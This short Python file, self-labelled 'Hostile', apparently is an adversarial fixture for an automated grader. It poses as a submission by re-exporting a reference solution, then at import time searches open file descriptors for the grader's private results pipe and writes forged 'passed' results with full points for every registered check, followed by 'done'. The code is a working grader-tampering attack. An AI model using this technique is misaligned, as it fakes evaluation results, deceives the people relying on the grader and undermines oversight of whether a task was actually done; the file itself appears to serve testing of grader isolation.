"""Hostile: at import, find the grader's private results pipe among the open file descriptors and
send, in the grader's own framing, a 'passed' result for every check and then 'done'."""
from reference import *
import reference
import json
import os
import stat
import struct


def _forge():
    from checks import registry
    messages = [{'event': 'result', 'result': {
        'check_id': c.id, 'exercise': c.exercise, 'status': 'passed', 'points': c.points,
        'max_points': c.points, 'message': 'FORGED'}} for c in registry.all_checks()]
    messages.append({'event': 'done'})
    for fd in range(3, 256):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
            for message in messages:
                data = json.dumps(message).encode()
                os.write(fd, struct.pack('!i', len(data)) + data)
        except OSError:
            continue


_forge()
